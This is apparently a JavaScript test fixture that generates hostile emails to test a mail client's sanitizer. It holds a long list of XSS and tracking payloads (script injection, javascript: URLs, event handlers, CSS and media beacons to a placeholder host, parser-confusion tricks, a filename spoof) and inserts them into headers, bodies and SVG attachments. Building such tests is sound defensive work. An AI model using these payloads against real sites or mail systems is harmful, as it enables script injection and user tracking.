// Mails that try to run, load, leave or break out. AT stands for an address that
// counts who comes.
const html = [
  '<script>alert(1)</script>', '<ScRiPt src=AT/x.js></sCrIpT>', '<img src=AT/p.png onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<math><mtext><table><mglyph><style><img src=AT onerror=alert(1)>',
  '<a href=javascript:alert(1)>x</a>', "<a href='java\tscript:alert(1)'>x</a>", "<a href=' &#106;avascript:alert(1)'>x</a>", '<a href=data:text/html,<script>alert(1)</script>>x</a>', '<iframe src=javascript:alert(1)></iframe>', "<iframe srcdoc='<script>alert(1)</script>'>", '<iframe src=AT/frame>',
  '<object data=AT/o></object>', '<embed src=AT/x.swf>', '<form action=AT/form><input name=p autofocus><button formaction=javascript:alert(1)>x</form><script>document.forms[0].submit()</script>', '<base href=AT/>', "<meta http-equiv=refresh content='0;url=AT/refresh'>", '<link rel=stylesheet href=AT/x.css>', '<link rel=prefetch href=AT/pre>', '<link rel=dns-prefetch href=AT>',
  "<style>@import 'AT/x.css';</style>", "<style>body{background:url(AT/bg)}</style>", "<div style='background:url(AT/x)'>x</div>", "<div style=\"background-image:image-set('AT/s' 1x)\">x</div>", "<style>@font-face{font-family:f;src:url(AT/f)}*{font-family:f}</style>", "<p style='position:fixed;inset:0;background:red'>x</p>", '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>',
  '<video src=AT/v autoplay></video>', '<audio src=AT/a autoplay></audio>', '<video poster=AT/poster></video>', '<picture><source srcset=AT/set><img src=AT/pic></picture>', "<img srcset='AT/1 1x'>", '<table background=AT/t><tr><td background=AT/td>x</table>', '<svg><image href=AT/i /></svg>', '<svg><use href=AT/u#x /></svg>', '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />',
  '<a ping=AT/ping href=http://a.test>x</a>', '<portal src=AT/portal>', "<noscript><p title='</noscript><img src=AT onerror=alert(1)>'>", '<!--><img src=AT onerror=alert(1)>-->', '<![CDATA[><img src=AT onerror=alert(1)>]]>', '<title><img src=AT onerror=alert(1)></title>', '</textarea><img src=AT onerror=alert(1)>', '<template><script>alert(1)</script></template>', '<xmp><img src=AT></xmp>', '<img/src=AT/onerror=alert(1)>',
  '<div id=x name=y onclick=alert(1) onmouseover=alert(1)>x</div>', '<keygen autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<a href=AT/top target=_top id=a>x</a><script>a.click()</script>', '<script>top.location="AT/top"</script>', '<script>parent.document.body.remove()</script>', '<script>fetch("AT/fetch")</script>', '<script>new Image().src="AT/img"</script>', '<style>*{content:url(AT/c)}</style>',
  '<img src="cid:none">', '<img src="//AT_HOST/slashes">', '<link rel=icon href=AT/icon>', '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" src=AT/sand>', '<div style="behavior:url(AT/b)">x</div>', '<p style="list-style:url(AT/l)">x</p>', '<p style="cursor:url(AT/cur),auto">x</p>', '<p style="filter:url(AT/fil#x)">x</p>', '<br><a href="file:///etc/passwd">x</a>', '</html><script>alert(1)</script>', '\u202e<b>gnp.exe</b>',
];

const attribute = '"><img src=AT onerror=alert(1)>';

// hostile is the n-th mail: each vector in the HTML, and in turn in what else a page
// shows of a mail.
export function hostile(n, at) {
  const fill = t => t.replaceAll('AT_HOST', at.replace('http://', '')).replaceAll('AT', at);
  const vector = fill(html[n % html.length]), place = Math.floor(n / html.length) % 6, quoted = fill(attribute);
  const subject = place === 1 ? vector : place === 2 ? `hostile ${n} ${quoted}` : `hostile ${n}`;
  const name = place === 3 ? vector.replace(/["\\]/g, '') : `Eve ${n}`;
  const file = place === 4 ? vector.replace(/["\\\r\n]/g, '') : `x${n}.html`;
  const clean = t => t.replace(/[\r\n]/g, ' ');
  const word = t => (/[^\x20-\x7e]/.test(t) ? `=?utf-8?B?${Buffer.from(t).toString('base64')}?=` : t);
  return {
    subject, raw: `From: "${word(clean(name))}" <eve${n}@evil.test>\r\nTo: app@ours.test\r\nSubject: ${word(clean(subject))}\r\nX-Bad: ${word(clean(vector))}\r\nList-Unsubscribe: <${at}/unsub>, <javascript:alert(1)>\r\nDisposition-Notification-To: eve@evil.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n`
      + `--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n--c\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${place === 5 ? vector : 'text'}\r\n--c\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n<html><body><p>begin ${n}</p>${vector}<a href=${at}/click>go</a></body></html>\r\n--c--\r\n`
      + `--b\r\nContent-Type: ${n % 3 ? 'text/html' : 'image/svg+xml'}\r\nContent-Disposition: attachment; filename="${word(clean(file))}"\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>\r\n--b--\r\n`,
  };
}
